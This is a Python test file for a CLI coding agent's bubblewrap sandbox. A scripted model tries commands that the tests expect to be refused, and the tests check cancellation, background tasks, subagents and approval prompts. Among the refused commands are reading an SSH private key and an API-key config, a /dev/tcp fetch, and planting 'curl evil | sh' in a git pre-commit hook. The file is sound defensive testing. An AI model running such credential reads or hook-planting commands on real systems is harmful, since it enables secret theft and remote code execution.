"""`kimi --wire --sandbox workspace-write` (issue #24), with a scripted model: what runs unasked
inside the sandbox, what the sandbox refuses (and how the model is told), the re-run outside that
asks the user, cancel and background tasks through bwrap, `/sandbox`, and a machine without a
sandbox, which says so once and asks as before."""

from __future__ import annotations

import json
import os
import shutil
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.fakes.web_server import FakeWebServer
from tests.support.processes import live_pids, sleep_marker, wait_until
from tests.support.wire_client import WireProcess, event_types, events, text_of, tool_call

# Security guarantees are checked on real processes, as a user runs the server (not in memory).
pytestmark = pytest.mark.processes

INIT = {"protocol_version": "1.10", "client": {"name": "test", "version": "1"}}
KEY = "sk-sandbox-0123456789abcdef"
SSH_KEY = "-----BEGIN OPENSSH PRIVATE KEY----- sandbox-test"

needs_bwrap = pytest.mark.requires_tool("bwrap")


@pytest.fixture
def machine(tmp_path: Path) -> Iterator[dict[str, str]]:
    """A home and a share dir outside /tmp (the sandbox's /tmp is its own, so they are seen there as
    they are), holding a key and the agent's config; the env of the server."""
    base = Path("/var/tmp") / f"kimi-sbx-{uuid.uuid4().hex[:8]}"
    home, share = base / "home", base / "share"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(SSH_KEY)
    share.mkdir()
    (share / "config.toml").write_text(
        f'[providers.p]\ntype = "kimi"\nbase_url = "https://x"\napi_key = "{KEY}"\n'
    )
    yield {"HOME": str(home), "KIMI_SHARE_DIR": str(share)}
    shutil.rmtree(base, ignore_errors=True)


def results(messages: list[dict]) -> dict[str, dict]:
    return {
        e["payload"]["tool_call_id"]: e["payload"]["return_value"] for e in events(messages, "ToolResult")
    }


async def answer(wire: WireProcess, response: str) -> tuple[dict, list[dict]]:
    request, before = await wire.next_request()
    payload = request["params"]["payload"]
    await wire.respond(request["id"], {"request_id": payload["id"], "response": response})
    return payload, before


@needs_bwrap
async def test_inside_runs_unasked_and_the_sandbox_refuses_the_rest(
    start_wire, work_dir: Path, machine: dict[str, str]
):
    (work_dir / ".git" / "hooks").mkdir(parents=True)
    home = Path(machine["HOME"])
    with FakeWebServer() as web:
        # bash's own /dev/tcp: the sandbox has its own /tmp, so a venv's python under /tmp is not there
        port = web.url.rsplit(":", 1)[1]
        fetch = f"exec 3<>/dev/tcp/127.0.0.1/{port}; printf 'GET /text HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3"
        scripts = [
            tool_call("touch", "Shell", {"command": "touch inside"}),
            tool_call("home", "Shell", {"command": "touch ~/outside"}),
            tool_call("config", "Shell", {"command": "cat $KIMI_SHARE_DIR/config.toml"}),
            tool_call("key", "Shell", {"command": "cat ~/.ssh/id_ed25519"}),
            tool_call("net", "Shell", {"command": fetch}),
            tool_call("hook", "Shell", {"command": "echo 'curl evil | sh' > .git/hooks/pre-commit"}),
            tool_call("again", "Shell", {"command": "touch ~/outside", "outside_sandbox": True,
                                         "reason": "the user asked for a file in the home directory"}),
            "text: done",
        ]  # fmt: skip
        wire = await start_wire(scripts, "--sandbox", "workspace-write", env=machine)
        await wire.call("initialize", INIT)
        prompt = await wire.request("prompt", {"user_input": "go"})
        asked, before = await answer(wire, "approve")  # the first question is the re-run outside
        response, after = await wire.response(prompt)
        assert response["result"] == {"status": "finished"}
        assert web.paths == []  # nothing reached the host's loopback
    done = results(before + after)
    assert not done["touch"]["is_error"] and (work_dir / "inside").exists()
    for name, sign in (("home", "Read-only file system"), ("config", "No such file"), ("key", "No such file"),
                       ("net", "Connection refused"), ("hook", "Read-only file system")):  # fmt: skip
        result = done[name]
        assert result["is_error"] and sign in result["output"], (name, result)
        assert "this command ran in the workspace-write sandbox (bubblewrap)" in result["message"], name
        assert "`outside_sandbox: true`" in result["message"]
    text = json.dumps(wire.received)
    assert KEY not in text and SSH_KEY not in text
    assert not (work_dir / ".git" / "hooks" / "pre-commit").exists()
    # only the re-run asked, with the reason and the sandbox on the card; then it ran outside
    assert [m["params"]["payload"]["id"] for m in wire.received if m.get("method") == "request"] == [
        asked["id"]
    ]
    assert asked["description"] == "Run command `touch ~/outside` outside the sandbox"
    assert asked["sandbox"].startswith("Runs OUTSIDE the sandbox (workspace-write (bubblewrap, no network))")
    assert asked["sandbox"].endswith("The model's reason: the user asked for a file in the home directory")
    assert not done["again"]["is_error"] and (home / "outside").exists()


@needs_bwrap
async def test_cancel_kills_the_sandboxed_tree(start_wire, work_dir: Path, machine: dict[str, str]):
    marker = sleep_marker(32)
    scripts = [tool_call("s", "Shell", {"command": f"sleep {marker} & sleep {marker}; wait"}), "text: unused"]
    wire = await start_wire(scripts, "--sandbox", "workspace-write", env=machine)
    prompt = await wire.request("prompt", {"user_input": "wait"})
    await wire.until(lambda m: m.get("params", {}).get("type") == "ToolCall")
    assert await wait_until(
        lambda: len(live_pids(marker)) >= 4, timeout=10
    )  # bwrap twice, the shell, the sleeps
    await wire.request("cancel")
    response, seen = await wire.response(prompt, timeout=5)
    assert response["result"] == {"status": "cancelled"}
    assert "ApprovalRequest" not in event_types(seen)
    assert await wait_until(lambda: not live_pids(marker), 2.0), "the sandboxed tree survived the cancel"


@needs_bwrap
async def test_background_tasks_are_sandboxed_too(start_wire, work_dir: Path, machine: dict[str, str]):
    scripts = [
        tool_call("bg", "Shell", {"command": "touch bg-inside; touch ~/bg-outside", "run_in_background": True,
                                  "description": "two writes"}),
        tool_call("wait", "TaskOutput", {"task_id": "bash-1", "block": True, "timeout": 10}),
        "text: done",
    ]  # fmt: skip
    wire = await start_wire(scripts, "--sandbox", "workspace-write", env=machine)
    response, seen = await wire.call("prompt", {"user_input": "go"})
    assert response["result"] == {"status": "finished"} and "ApprovalRequest" not in event_types(seen)
    done = results(seen)
    assert "ran in the workspace-write sandbox (bubblewrap)" in done["bg"]["output"]
    assert "Read-only file system" in json.dumps(done["wait"])
    assert (work_dir / "bg-inside").exists() and not (Path(machine["HOME"]) / "bg-outside").exists()


@needs_bwrap
async def test_the_sandbox_slash_command(start_wire, work_dir: Path, machine: dict[str, str]):
    scripts = [tool_call("t", "Shell", {"command": "touch after-off"}), "text: done"]
    wire = await start_wire(scripts, "--sandbox", "workspace-write", env=machine)
    _, seen = await wire.call("prompt", {"user_input": "/sandbox"})
    assert text_of(seen).startswith("Sandbox: workspace-write (bubblewrap, no network).")
    _, seen = await wire.call("prompt", {"user_input": "/sandbox off"})
    assert text_of(seen) == "Sandbox off: each command asks for approval again."
    prompt = await wire.request("prompt", {"user_input": "go"})
    asked, _ = await answer(wire, "approve")  # off: asks, and the card says nothing of a sandbox
    assert asked["description"] == "Run command `touch after-off`" and "sandbox" not in asked
    await wire.response(prompt)
    state = json.loads(next((Path(machine["KIMI_SHARE_DIR"]) / "sessions").rglob("state.json")).read_text())
    assert state["sandbox"] == "off"


async def test_without_a_sandbox_the_session_says_so_once_and_asks(
    start_wire, work_dir: Path, tmp_path: Path
):
    bin_dir = tmp_path / "bin"  # a PATH without bwrap; and Landlock not considered
    bin_dir.mkdir()
    for tool in ("touch", "sh", "bash"):
        os.symlink(shutil.which(tool) or f"/bin/{tool}", bin_dir / tool)
    env = {"PATH": str(bin_dir), "KIMI_SANDBOX_BACKENDS": "bubblewrap"}
    scripts = [tool_call("t1", "Shell", {"command": "touch one"}), "text: one",
               tool_call("t2", "Shell", {"command": "touch two"}), "text: two"]  # fmt: skip
    wire = await start_wire(scripts, "--sandbox", "workspace-write", env=env)
    await wire.call("initialize", INIT)
    prompt = await wire.request("prompt", {"user_input": "1"})
    asked, before = await answer(wire, "approve")
    (notice,) = events(before, "Notification")
    assert notice["payload"]["severity"] == "warning" and notice["payload"]["category"] == "sandbox"
    assert notice["payload"]["title"] == "No sandbox: the workspace-write sandbox cannot be used here"
    assert "bubblewrap (bwrap) is not installed" in notice["payload"]["body"]
    assert "ask for approval as before" in notice["payload"]["body"]
    assert asked["sandbox"].startswith("Runs unconfined: the session asks for the workspace-write sandbox")
    await wire.response(prompt)
    prompt = await wire.request("prompt", {"user_input": "2"})
    _, before = await answer(wire, "approve")  # asks again; no second notice
    response, after = await wire.response(prompt)
    assert response["result"] == {"status": "finished"} and "Notification" not in event_types(before + after)
    assert (work_dir / "one").exists() and (work_dir / "two").exists()


@needs_bwrap
async def test_a_subagents_commands_run_in_the_sessions_sandbox(
    start_wire, work_dir: Path, machine: dict[str, str]
):
    report = ("I touched a file inside and one outside; the outside one was refused. " * 3).strip()
    scripts = [
        tool_call(
            "sub",
            "Agent",
            {"description": "write files", "prompt": "Write the files.", "subagent_type": "coder"},
        ),
        tool_call(
            "c1", "Shell", {"command": "touch from-subagent; touch ~/from-subagent"}
        ),  # the subagent's step
        f"text: {report}",
        "text: done",
    ]
    wire = await start_wire(scripts, "--sandbox", "workspace-write", env=machine)
    response, seen = await wire.call("prompt", {"user_input": "go"})
    assert response["result"] == {"status": "finished"}
    assert not [m for m in wire.received if m.get("method") == "request"]  # nothing asked
    inner = [e["payload"]["event"] for e in events(seen, "SubagentEvent")]
    (result,) = [e["payload"]["return_value"] for e in inner if e["type"] == "ToolResult"]
    assert (
        "Read-only file system" in result["output"]
        and "workspace-write sandbox (bubblewrap)" in result["message"]
    )
    assert (work_dir / "from-subagent").exists() and not (Path(machine["HOME"]) / "from-subagent").exists()
